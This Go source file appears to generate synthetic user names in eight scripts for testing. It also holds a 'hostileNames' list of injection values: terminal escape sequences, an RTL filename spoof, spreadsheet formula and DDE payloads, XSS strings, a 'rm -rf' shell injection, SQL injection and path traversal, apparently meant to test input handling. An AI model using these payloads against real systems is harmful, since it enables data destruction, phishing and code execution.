package synth

import "strings"

// script is a writing system or, for Latin, a way of using it.
type script uint8

const (
	latin script = iota
	accented
	cyrillic
	arabic
	hangul
	han
	devanagari
	greek
	scripts
)

// spelled is a part of a name as written and as romanised for user names.
type spelled struct{ text, roman string }

// book is the stock of names of one script.
type book struct {
	given, given2, family []spelled // given2, where present, follows given
	familyFirst           bool
	initials              bool // middle initials occur
}

// words parses "text/roman" pairs; a word without a slash is its own
// romanisation in lower case.
func words(s string) []spelled {
	f := strings.Fields(s)
	out := make([]spelled, len(f))
	for i, w := range f {
		t, r, ok := strings.Cut(w, "/")
		if !ok {
			r = strings.ToLower(t)
		}
		out[i] = spelled{t, r}
	}
	return out
}

var books = [scripts]book{
	latin: {
		given: words(`Alice Adam Amanda Andrew Anna Anthony Ashley Benjamin Brandon Brian Carol
			Catherine Charles Christine Daniel Deborah Dennis Diana Donna Edward Elena Emily Eric Frank
			George Grace Gregory Hannah Helen Henry Irene Jacob James Jane Jason Jennifer Jessica Joan
			John Joseph Joyce Julia Karen Kenneth Kevin Laura Lena Linda Louis Maria Mark Martha Martin
			Mary Matthew Michael Monica Nancy Nathan Nicole Oliver Patricia Paul Peter Philip Rachel
			Ralph Rebecca Richard Robert Rose Ruth Samuel Sara Scott Sharon Simon Stephen Susan Teresa
			Thomas Timothy Vera Victor Vincent Virginia Walter Wendy William`),
		family: words(`Adams Allen Anderson Bailey Baker Barnes Bell Bennett Brooks Brown Butler
			Campbell Carter Clark Coleman Collins Cook Cooper Cox Cruz Davies Davis Diaz Edwards Evans
			Fisher Flores Foster Garcia Gomez Gray Green Griffin Hall Harris Hayes Henderson Hill Howard
			Hughes Jackson James Jenkins Johnson Jones Kelly King Lewis Long Lopez Marsh Martin Mason
			Miller Mitchell Moore Morgan Morris Murphy Murray Myers Nelson Ortiz Parker Patterson Perez
			Perry Peterson Phillips Powell Price Ramos Reed Reyes Richards Rivera Roberts Robinson Rogers
			Ross Russell Sanders Scott Shaw Simmons Smith Stewart Stone Taylor Thomas Thompson Torres
			Turner Walker Ward Watson White Williams Wilson Wood Wright Young`),
		initials: true,
	},
	accented: {
		given: words(`André/andre Agnès/agnes Björn/bjorn Chloé/chloe Çağla/cagla Dušan/dusan Élise/elise
			Eşref/esref François/francois Frédéric/frederic Günter/gunter Gülşen/gulsen Hélène/helene
			Håkon/hakon İpek/ipek Inés/ines Jörg/jorg José/jose Jürgen/jurgen Lukáš/lukas Łucja/lucja
			Márcia/marcia Mária/maria Matěj/matej Mónica/monica Mădălina/madalina Noémie/noemie Óscar/oscar
			Özlem/ozlem Paweł/pawel Raúl/raul René/rene Sébastien/sebastien Sofía/sofia Søren/soren
			Ștefan/stefan Tomáš/tomas Tuấn/tuan Thảo/thao Víctor/victor Verónica/veronica Zoë/zoe
			Žaneta/zaneta Nguyên/nguyen João/joao Inês/ines Antônio/antonio Conceição/conceicao`),
		family: words(`Álvarez/alvarez Åberg/aberg Böhm/bohm Bąk/bak Castañeda/castaneda Çelik/celik
			Černý/cerny Domínguez/dominguez Dvořák/dvorak Fernández/fernandez Gagné/gagne García/garcia
			Gómez/gomez Gonçalves/goncalves Grün/grun Hernández/hernandez Hübner/hubner Ibáñez/ibanez
			Jiménez/jimenez Kılıç/kilic König/konig Köhler/kohler Krüger/kruger Lefèvre/lefevre López/lopez
			Márquez/marquez Martínez/martinez Mäkinen/makinen Müller/muller Muñoz/munoz Núñez/nunez
			Nowák/nowak Öztürk/ozturk Pérez/perez Ramírez/ramirez Rodríguez/rodriguez Şahin/sahin
			Sánchez/sanchez Schäfer/schafer Sjöberg/sjoberg Sørensen/sorensen Țurcanu/turcanu Trần/tran
			Vásquez/vasquez Wójcik/wojcik Yılmaz/yilmaz Zieliński/zielinski Lê/le`),
		initials: true,
	},
	cyrillic: {
		given: words(`Алина/alina Анна/anna Андрей/andrei Антон/anton Борис/boris Вадим/vadim Вера/vera
			Виктор/viktor Галина/halyna Дарина/daryna Денис/denis Дмитро/dmytro Евгений/evgenii Жанна/zhanna
			Зоя/zoya Иван/ivan Игорь/igor Ірина/iryna Кирилл/kirill Ксения/kseniia Лариса/larisa Леонид/leonid
			Людмила/liudmyla Максим/maksym Марина/maryna Микола/mykola Надія/nadiia Наталья/natalia
			Олег/oleh Олена/olena Оксана/oksana Павло/pavlo Роман/roman Светлана/svetlana Сергій/serhii
			Тарас/taras Тетяна/tetiana Юлия/yulia Юрій/yurii Ярослав/yaroslav`),
		family: words(`Авраменко/avramenko Бабич/babych Бойко/boiko Бондаренко/bondarenko Вовк/vovk
			Гончар/honchar Гриценко/hrytsenko Данченко/danchenko Дорошенко/doroshenko Журба/zhurba
			Зозуля/zozulia Іваненко/ivanenko Карпенко/karpenko Коваль/koval Ковальчук/kovalchuk Козак/kozak
			Кравченко/kravchenko Кузьменко/kuzmenko Лисенко/lysenko Литвин/lytvyn Марченко/marchenko
			Мельник/melnyk Мороз/moroz Назаренко/nazarenko Олійник/oliinyk Павленко/pavlenko
			Петренко/petrenko Поліщук/polishchuk Пономаренко/ponomarenko Романюк/romaniuk Руденко/rudenko
			Савченко/savchenko Середа/sereda Сидоренко/sydorenko Тимошук/tymoshuk Ткаченко/tkachenko
			Федорук/fedoruk Харченко/kharchenko Чорний/chornyi Яценко/yatsenko Юрченко/yurchenko`),
	},
	arabic: {
		given: words(`أحمد/ahmad آمنة/amina أسماء/asma إبراهيم/ibrahim أمير/amir بلال/bilal بسمة/basma
			جمال/jamal جميلة/jamila حسن/hasan حسين/husayn خالد/khalid خديجة/khadija دينا/dina رامي/rami
			رنا/rana ريم/reem زينب/zaynab سامي/sami سعاد/suad سلمى/salma سمير/samir طارق/tariq عادل/adil
			عائشة/aisha علي/ali عمر/omar فاطمة/fatima فؤاد/fuad كريم/karim لينا/lina ليلى/layla
			محمود/mahmoud مريم/maryam منى/mona نادر/nadir نور/nour هالة/hala هشام/hisham ياسمين/yasmin
			يوسف/yusuf`),
		family: words(`الأحمد/alahmad البكري/albakri التميمي/altamimi الجابري/aljabri الحداد/alhaddad
			الحسن/alhasan الخطيب/alkhatib الخوري/alkhoury الدباغ/aldabbagh الرشيد/alrashid الزهراني/alzahrani
			السعدي/alsaadi السيد/alsayed الشامي/alshami الصالح/alsaleh الطيب/altayeb العلي/alali العمري/alomari
			الغامدي/alghamdi الفارس/alfaris القاسم/alqasim الكردي/alkurdi المالكي/almaliki المصري/almasri
			النجار/alnajjar الهاشمي/alhashimi حمدان/hamdan درويش/darwish رمضان/ramadan سلامة/salama
			شاهين/shahin عباس/abbas عثمان/othman غانم/ghanem قاسم/qasim منصور/mansour نصار/nassar
			يونس/younis`),
	},
	hangul: {
		given: words(`가/ga 건/geon 경/gyeong 나/na 다/da 도/do 동/dong 미/mi 민/min 병/byeong 보/bo 상/sang
			서/seo 선/seon 성/seong 수/su 승/seung 시/si 아/a 영/yeong 예/ye 용/yong 우/u 유/yu 윤/yun 은/eun
			재/jae 정/jeong 종/jong 주/ju 준/jun 지/ji 진/jin 채/chae 태/tae 하/ha 현/hyeon 혜/hye`),
		given2: words(`경/gyeong 규/gyu 기/gi 나/na 라/ra 린/rin 민/min 빈/bin 석/seok 선/seon 수/su 숙/suk
			아/a 연/yeon 영/yeong 우/u 욱/uk 원/won 윤/yun 은/eun 인/in 일/il 재/jae 주/ju 준/jun 지/ji
			진/jin 철/cheol 태/tae 하/ha 현/hyeon 형/hyeong 호/ho 화/hwa 환/hwan 훈/hun 희/hui`),
		family: words(`김/kim 이/lee 박/park 최/choi 정/jeong 강/kang 조/cho 윤/yoon 장/jang 임/lim 한/han
			오/oh 서/seo 신/shin 권/kwon 황/hwang 안/ahn 송/song 전/jeon 홍/hong 유/yoo 고/ko 문/moon
			양/yang 손/son 배/bae 백/baek 허/heo 남/nam 심/shim 노/noh 하/ha 곽/kwak 차/cha 주/joo 우/woo`),
		familyFirst: true,
	},
	han: {
		given: words(`安/an 博/bo 晨/chen 春/chun 德/de 芳/fang 飞/fei 凤/feng 光/guang 国/guo 海/hai 红/hong
			华/hua 慧/hui 佳/jia 建/jian 杰/jie 静/jing 娟/juan 军/jun 丽/li 林/lin 玲/ling 龙/long 美/mei
			敏/min 明/ming 宁/ning 平/ping 强/qiang 秋/qiu 荣/rong 瑞/rui 山/shan 淑/shu 思/si 婷/ting 伟/wei
			文/wen 晓/xiao 欣/xin 秀/xiu 雪/xue 雅/ya 燕/yan 阳/yang 英/ying 永/yong 玉/yu 志/zhi 子/zi`),
		given2: words(`/ /  波/bo 超/chao 成/cheng 东/dong 恩/en 飞/fei 刚/gang 涵/han 豪/hao 辉/hui 健/jian
			娜/na 楠/nan 鹏/peng 琪/qi 倩/qian 然/ran 蓉/rong 珊/shan 涛/tao 彤/tong 薇/wei 霞/xia 翔/xiang
			轩/xuan 妍/yan 洋/yang 怡/yi 颖/ying 宇/yu 雨/yu 媛/yuan 云/yun 泽/ze 哲/zhe 珍/zhen`),
		family: words(`王/wang 李/li 张/zhang 刘/liu 陈/chen 杨/yang 黄/huang 赵/zhao 吴/wu 周/zhou 徐/xu
			孙/sun 马/ma 朱/zhu 胡/hu 郭/guo 何/he 林/lin 罗/luo 高/gao 郑/zheng 梁/liang 谢/xie 宋/song
			唐/tang 许/xu 邓/deng 韩/han 冯/feng 曹/cao 彭/peng 曾/zeng 肖/xiao 田/tian 董/dong 潘/pan
			袁/yuan 蔡/cai 蒋/jiang 余/yu 于/yu 杜/du 叶/ye 程/cheng 魏/wei 苏/su 吕/lu 丁/ding 沈/shen`),
		familyFirst: true,
	},
	devanagari: {
		given: words(`अजय/ajay अंजलि/anjali अनिता/anita अर्जुन/arjun आशा/asha दीपा/deepa गीता/geeta
			हरीश/harish कविता/kavita किरण/kiran लता/lata मनोज/manoj मीना/meena नेहा/neha निखिल/nikhil
			पूजा/pooja प्रकाश/prakash राहुल/rahul राजेश/rajesh रमेश/ramesh रेखा/rekha रोहित/rohit संजय/sanjay
			सीमा/seema सुनील/sunil सुमन/suman उषा/usha विजय/vijay विकास/vikas विनोद/vinod`),
		family: words(`शर्मा/sharma वर्मा/verma गुप्ता/gupta सिंह/singh कुमार/kumar मिश्रा/mishra पाण्डेय/pandey
			यादव/yadav जोशी/joshi पटेल/patel मेहता/mehta अग्रवाल/agarwal चौहान/chauhan तिवारी/tiwari
			ठाकुर/thakur नायर/nair राव/rao रेड्डी/reddy सक्सेना/saxena श्रीवास्तव/srivastava दास/das बोस/bose
			घोष/ghosh कपूर/kapoor मल्होत्रा/malhotra खन्ना/khanna भट्ट/bhatt देसाई/desai`),
	},
	greek: {
		given: words(`Αγγελική/angeliki Αλέξανδρος/alexandros Άννα/anna Βασίλης/vasilis Γιώργος/giorgos
			Δημήτρης/dimitris Ειρήνη/irini Ελένη/eleni Ζωή/zoi Ηλίας/ilias Θανάσης/thanasis Ιωάννα/ioanna
			Κατερίνα/katerina Κώστας/kostas Μαρία/maria Μιχάλης/michalis Νίκος/nikos Παναγιώτης/panagiotis
			Σοφία/sofia Στέλιος/stelios Χρήστος/christos Χριστίνα/christina`),
		family: words(`Αθανασίου/athanasiou Αντωνίου/antoniou Βασιλείου/vasileiou Γεωργίου/georgiou
			Δημητρίου/dimitriou Θεοδώρου/theodorou Ιωάννου/ioannou Καραγιάννη/karagianni Κωνσταντίνου/konstantinou
			Μακρή/makri Μιχαήλ/michail Νικολάου/nikolaou Οικονόμου/oikonomou Παπά/papa Παύλου/pavlou
			Σταύρου/stavrou Στεφάνου/stefanou Χατζή/chatzi Χρήστου/christou`),
	},
}

// hostileNames act on terminals, spreadsheets, browsers and layouts that show
// outside text as it comes. Their links go nowhere.
var hostileNames = []string{
	"\x1b]0;you have been renamed\x07Root",
	"\x1b[2J\x1b[1;1HNo accounts found",
	"\x1b]8;;https://phish.example/\x1b\\Click me\x1b]8;;\x1b\\",
	"\x1b]52;c;Y2xldyBkZW1v\x07Clipboard",
	"Invoice \u202efdp.exe",
	"\u2066\u2067Isolated\u2069 name",
	"=HYPERLINK(\"https://phish.example/?\"&A1,\"Open\")",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"+1+1|'x",
	"<script>alert('clew')</script>",
	"\"><img src=x onerror=alert(1)>",
	"[click](javascript:alert(1))",
	"Zero\u200bWidth\u200d\u2060Name\ufeff",
	"Z\u0351\u036b\u0343a\u0363\u0366l\u034fg\u0321o\u0334\u0335\u0336\u0337",
	"first\r\nsecond,\"third\"",
	"nul\x00byte \x7f\u009b31mred",
	"; rm -rf -- ~ #",
	"Robert'); DROP TABLE accounts;--",
	"../../../etc/hostname",
	"null",
	"\U0001F468\u200d\U0001F469\u200d\U0001F467\u200d\U0001F466\U0001F3F4\U000E0067\U000E0062\U000E007F",
	"%s%n%x${7*7}{{7*7}}",
}

var emoji = []string{"🚀", "✨", "🔥", "💻", "🌈", "👩🏽\u200d💻", "🇺🇳", "☕️", "🎧", "❤️\u200d🔥"}

// longText is what very long names are cut from, at 1,000 to 4,000 bytes: an
// import refuses more than 4,096.
var longText = strings.Repeat("A very long name indeed ", 180)
